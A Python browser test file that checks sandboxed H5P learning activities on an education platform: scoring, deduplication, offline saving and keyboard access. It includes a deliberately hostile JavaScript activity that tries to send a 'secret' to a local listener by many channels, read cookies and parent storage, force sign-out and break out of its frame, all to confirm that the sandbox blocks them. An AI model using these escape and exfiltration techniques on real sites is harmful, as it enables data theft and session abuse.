"""H5P activities in a real browser: they play, what they tell counts once, and a hostile one reaches nothing."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Callable, Iterator
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import expect

from headway.records.evidence.models import Evidence
from headway.records.planning.models import Week
from tests.browser.conftest import CHROMEBOOK
from tests.people import People, build
from tests.playing import FULL, block_playing, needs_packages, package

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Browser, Frame, Page
    from pytest_django.live_server_helper import LiveServer

    from headway.records.planning.models import Block
    from headway.records.roster.models import Person

SignIn = Callable[["Page", "Person"], None]
Axe = Callable[..., None]

# Shows a button that tells a result as H5P activities do.
TELLS = """
H5P.Probe = function (params, id) { H5P.EventDispatcher.call(this); this.contentId = id; };
H5P.Probe.prototype = Object.create(H5P.EventDispatcher.prototype);
H5P.Probe.prototype.attach = function ($container) {
  var self = this, button = document.createElement('button');
  button.textContent = 'Answer';
  button.onclick = function () { self.triggerXAPIScored(3, 4, 'answered', true, false); };
  $container.append(button);
};
H5P.Probe.prototype.constructor = H5P.Probe;
['triggerXAPIScored', 'createXAPIEventTemplate', 'triggerXAPI'].forEach(function (name) { H5P.Probe.prototype[name] = H5P.EventDispatcher.prototype[name]; });
"""

# Tries every way out, and to what is around; what each gave is written into the page.
HOSTILE = """
H5P.Probe = function () {};
H5P.Probe.prototype.attach = function ($container) {
  var away = 'http://127.0.0.1:%(port)s/', home = location.origin, told = {};
  function tried(name, how) { try { told[name] = String(how()); } catch (problem) { told[name] = 'refused'; } }
  var waiting = [
    fetch(away + 'fetch').then(function () { told.fetch = 'reached'; }, function () { told.fetch = 'refused'; }),
    fetch(home + '/my/').then(function () { told.home = 'reached'; }, function () { told.home = 'refused'; }),
    fetch('data:,x').then(function () { told.data = 'reached'; }, function () { told.data = 'refused'; })
  ];
  tried('xhr', function () { var ask = new XMLHttpRequest(); ask.open('GET', away + 'xhr', false); ask.send(); return 'reached'; });
  tried('beacon', function () { navigator.sendBeacon(away + 'beacon', 'secret'); return 'tried'; });
  tried('image', function () { new Image().src = away + 'image?secret'; return 'tried'; });
  tried('own image', function () { new Image().src = home + '/my/?image'; return 'tried'; });
  tried('socket', function () { new WebSocket(away.replace('http', 'ws') + 'socket'); return 'tried'; });
  tried('events', function () { new EventSource(away + 'events'); return 'tried'; });
  tried('script', function () { document.head.append(Object.assign(document.createElement('script'), { src: away + 'script.js' })); return 'tried'; });
  tried('style', function () { document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: away + 'style.css' })); return 'tried'; });
  tried('prefetch', function () { document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: away + 'prefetch' })); return 'tried'; });
  tried('font', function () { new FontFace('x', 'url(' + away + 'font)').load().catch(function () {}); return 'tried'; });
  tried('sound', function () { new Audio(away + 'sound').load(); return 'tried'; });
  tried('frame', function () { document.body.append(Object.assign(document.createElement('iframe'), { src: away + 'frame' })); return 'tried'; });
  tried('own frame', function () { document.body.append(Object.assign(document.createElement('iframe'), { src: home + '/my/' })); return 'tried'; });
  tried('object', function () { document.body.append(Object.assign(document.createElement('object'), { data: away + 'object' })); return 'tried'; });
  tried('worker', function () { new Worker(URL.createObjectURL(new Blob(['fetch("' + away + 'worker")']))); return 'tried'; });
  tried('form', function () {
    var form = Object.assign(document.createElement('form'), { method: 'post', action: away + 'form' });
    document.body.append(form); form.submit(); return 'tried';
  });
  tried('own form', function () {
    var form = Object.assign(document.createElement('form'), { method: 'post', action: home + '/sign-out/' });
    document.body.append(form); form.submit(); return 'tried';
  });
  tried('window', function () { return window.open(away + 'window') ? 'reached' : 'refused'; });
  tried('top', function () { top.location = away + 'top'; return 'tried'; });
  tried('parent', function () { return parent.document.title; });
  tried('parent storage', function () { return parent.localStorage.length; });
  tried('cookie', function () { return document.cookie; });
  tried('database', function () { return indexedDB.open('x') && 'reached'; });
  tried('calls', function () { return typeof RTCPeerConnection; });
  tried('refresh', function () { document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '9;url=' + away + 'refresh' })); return 'tried'; });
  tried('origin', function () { return self.origin; });
  Promise.all(waiting).then(function () {
    $container.append(Object.assign(document.createElement('pre'), { id: 'tried', textContent: JSON.stringify(told) }));
  });
};
"""


@pytest.fixture
def cast(transactional_db: None) -> People:
    """Return the cast with an approved week."""
    cast = build()
    cast.approve()
    return cast


@pytest.fixture
def watched(chromium: Browser, live_server: LiveServer) -> Iterator[Page]:
    """Return a page on which third-party content may run into its walls, which the browser tells in its console."""
    # What is kept for a lost connection is fetched by itself, and is not what these walks are about.
    context = chromium.new_context(
        base_url=live_server.url,
        viewport=CHROMEBOOK,  # type: ignore[arg-type]
        locale="en-US",
        service_workers="block",
    )
    context.set_default_timeout(20_000)
    yield context.new_page()
    context.close()


@pytest.fixture
def elsewhere() -> Iterator[tuple[int, list[str]]]:
    """Return another server's port, and what was asked of it."""
    asked: list[str] = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def handle_one_request(self) -> None:
            asked.append(self.rfile.readline(500).decode(errors="replace").strip())
            self.close_connection = True

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], asked
    server.shutdown()


def inside(page: Page, block: Block) -> Frame:
    """Open the play page of a block and return its frame once it plays."""
    page.goto(f"/my/blocks/{block.uuid}/play/")
    element = page.locator("iframe[data-frame=h5p]").element_handle()
    frame = element.content_frame() if element else None
    assert frame is not None
    frame.wait_for_selector(".h5p-initialized", state="attached")
    return frame


def pieces(cast: People) -> list[Evidence]:
    return list(Evidence.objects.filter(student=cast.ben, source="h5p").order_by("pk"))


def saved(page: Page) -> None:
    expect(page.locator("[data-frame-told]")).to_contain_text("Saved")


# --- real packages ----------------------------------------------------------------------------------------------------


@needs_packages
@pytest.mark.parametrize("path", sorted(FULL.glob("*.h5p")), ids=lambda path: path.stem)
def test_every_real_package_plays(path: Path, watched: Page, cast: People, sign_in: SignIn) -> None:
    problems: list[str] = []
    watched.on("pageerror", lambda error: problems.append(str(error)))
    watched.on("response", lambda answer: problems.append(answer.url) if answer.status >= 400 else None)
    sign_in(watched, cast.ben)
    frame = inside(watched, block_playing(cast, path))

    assert frame.locator(".h5p-container > *").count() > 0
    expect(frame.locator(".h5p-container").first).to_be_visible()
    assert problems == []


@needs_packages
def test_a_right_choice_counts_with_its_score_and_its_odds(watched: Page, cast: People, sign_in: SignIn) -> None:
    sign_in(watched, cast.ben)
    frame = inside(watched, block_playing(cast, FULL / "multiple-choice.h5p"))
    frame.get_by_role("radio", name="Very dark purple").click()
    frame.get_by_role("button", name="Check").click()
    saved(watched)

    [piece] = pieces(cast)
    assert (piece.score, piece.kind, piece.attempt) == (1.0, "answer", 1)
    assert piece.guess_chance == pytest.approx(1 / 3)
    assert piece.competency == cast.competencies["7.1"]
    assert piece.response["asked"].startswith("What color")


@needs_packages
def test_a_wrong_try_and_a_right_one_count_as_two_tries(watched: Page, cast: People, sign_in: SignIn) -> None:
    sign_in(watched, cast.ben)
    frame = inside(watched, block_playing(cast, FULL / "true-false-question.h5p"))
    frame.get_by_role("radio", name="No").click()
    frame.get_by_role("button", name="Check").click()
    saved(watched)
    # The button moves into place, and hears no click on the way.
    retry, yes = frame.get_by_role("button", name="Retry"), frame.get_by_role("radio", name="Yes")
    frame.wait_for_function(
        "() => { const on = document.querySelector('[role=radio]').getAttribute('aria-disabled') !== 'true';"
        " if (!on) document.querySelector('.h5p-question-try-again')?.click(); return on; }",
        polling=500,
    )
    expect(retry).to_be_hidden()
    yes.click()
    with watched.expect_response(lambda answer: answer.url.endswith("/statement/")):
        frame.get_by_role("button", name="Check").click()

    assert [(piece.score, piece.attempt, piece.guess_chance) for piece in pieces(cast)] == [
        (0.0, 1, 0.5),
        (1.0, 2, 0.5),
    ]


# --- what is told -----------------------------------------------------------------------------------------------------


def test_a_result_that_is_sent_twice_counts_once(watched: Page, cast: People, sign_in: SignIn, tmp_path: Path) -> None:
    sign_in(watched, cast.ben)
    frame = inside(watched, block_playing(cast, package(tmp_path, TELLS)))
    with watched.expect_request(lambda request: request.url.endswith("/statement/")) as sent:
        frame.get_by_role("button", name="Answer").click()
    saved(watched)
    again = watched.evaluate(
        "([address, body, token]) => fetch(address, {method: 'POST', body, headers: {'X-CSRFToken': token}}).then((a) => a.json())",
        [sent.value.url, sent.value.post_data, sent.value.headers["x-csrftoken"]],
    )

    assert again == {"became": "saved"}
    assert [piece.score for piece in pieces(cast)] == [0.75]


def test_a_result_without_a_connection_is_kept_and_sent_later(
    watched: Page, cast: People, sign_in: SignIn, tmp_path: Path
) -> None:
    sign_in(watched, cast.ben)
    frame = inside(watched, block_playing(cast, package(tmp_path, TELLS)))
    watched.context.set_offline(True)
    frame.get_by_role("button", name="Answer").click()
    expect(watched.locator("[data-frame-told]")).to_contain_text("No connection just now.")
    watched.context.set_offline(False)
    saved(watched)

    assert [piece.score for piece in pieces(cast)] == [0.75]


def test_a_week_that_is_over_takes_nothing(watched: Page, cast: People, sign_in: SignIn, tmp_path: Path) -> None:
    sign_in(watched, cast.ben)
    block = block_playing(cast, package(tmp_path, TELLS))
    frame = inside(watched, block)
    Week.objects.filter(pk=block.week_id).update(status="closed")
    frame.get_by_role("button", name="Answer").click()

    expect(watched.locator("[data-frame-told]")).to_contain_text("This week is over")
    assert pieces(cast) == []


def test_only_the_frame_itself_is_heard(watched: Page, cast: People, sign_in: SignIn, tmp_path: Path) -> None:
    sign_in(watched, cast.ben)
    frame = inside(watched, block_playing(cast, package(tmp_path, TELLS)))
    told = {"headway": "statement", "statement": {"verb": {"id": "x/answered"}, "result": {"score": {"scaled": 1}}}}
    watched.evaluate("told => window.postMessage(told, '*')", told)
    frame.get_by_role("button", name="Answer").click()
    saved(watched)

    assert [piece.score for piece in pieces(cast)] == [0.75]


def test_the_page_around_the_frame_has_no_barriers(
    page: Page, cast: People, sign_in: SignIn, axe: Axe, tmp_path: Path
) -> None:
    sign_in(page, cast.ben)
    inside(page, block_playing(cast, package(tmp_path, TELLS)))

    axe(page, leave_out=("iframe",))


# --- the walls --------------------------------------------------------------------------------------------------------

# What the program itself can see of its tries; whether anything arrived, the other server knows.
REACHED_NOTHING = {
    "fetch": "refused",
    "home": "refused",
    "data": "refused",
    "xhr": "refused",
    "window": "refused",
    "top": "refused",
    "parent": "refused",
    "parent storage": "refused",
    "cookie": "refused",
    "database": "refused",
    "calls": "undefined",
    "origin": "null",
}


def test_a_hostile_activity_reaches_nothing(
    watched: Page, cast: People, sign_in: SignIn, tmp_path: Path, elsewhere: tuple[int, list[str]]
) -> None:
    port, asked = elsewhere
    answered: list[str] = []
    # A request that the policy stops is told of too, so what was answered is what counts.
    watched.context.on("response", lambda answer: answered.append(answer.url))
    sign_in(watched, cast.ben)
    block = block_playing(cast, package(tmp_path, HOSTILE % {"port": port}))
    frame = inside(watched, block)
    told = json.loads(frame.locator("#tried").inner_text())
    watched.wait_for_timeout(1500)
    here = f"/my/blocks/{block.uuid}/play/"

    assert {name: told[name] for name in REACHED_NOTHING} == REACHED_NOTHING
    assert asked == []
    assert watched.url.endswith(here)
    base = watched.url.removesuffix(here)
    own = [address.removeprefix(base) for address in answered if address.startswith(base)]
    assert [address for address in own if not address.startswith(("/frames/", "/static/", here, "/favicon"))] == []


@pytest.mark.parametrize("way", ["location.href = {away}", "location.replace({away})", "document.body.innerHTML = '<a id=a href=' + {away} + '>.</a>'; document.getElementById('a').click()"])  # fmt: skip
def test_a_frame_cannot_go_elsewhere_by_itself(
    way: str, watched: Page, cast: People, sign_in: SignIn, tmp_path: Path, elsewhere: tuple[int, list[str]]
) -> None:
    port, asked = elsewhere
    sign_in(watched, cast.ben)
    frame = inside(watched, block_playing(cast, package(tmp_path, TELLS)))
    away = json.dumps(f"http://127.0.0.1:{port}/gone?secret")
    frame.evaluate("code => void setTimeout(() => Function(code)(), 0)", way.format(away=away))
    watched.wait_for_timeout(1000)

    assert asked == []


def test_a_page_of_the_site_holds_no_frame_unless_it_needs_one(
    watched: Page, cast: People, sign_in: SignIn, elsewhere: tuple[int, list[str]]
) -> None:
    port, asked = elsewhere
    sign_in(watched, cast.ben)
    watched.goto("/my/")
    watched.evaluate(
        "away => document.body.append(Object.assign(document.createElement('iframe'), {src: away}))",
        f"http://127.0.0.1:{port}/",
    )
    watched.wait_for_timeout(500)

    assert asked == []


def test_the_keyboard_gets_into_an_activity_and_out_again(
    watched: Page, cast: People, sign_in: SignIn, tmp_path: Path
) -> None:
    sign_in(watched, cast.ben)
    frame = inside(watched, block_playing(cast, package(tmp_path, TELLS)))
    button: Any = frame.get_by_role("button", name="Answer")
    for _ in range(15):
        if button.evaluate("element => element === document.activeElement && document.hasFocus()"):
            break
        watched.keyboard.press("Tab")
    watched.keyboard.press("Enter")
    saved(watched)
    watched.keyboard.press("Tab")

    assert watched.evaluate("document.activeElement.tagName") != "IFRAME"
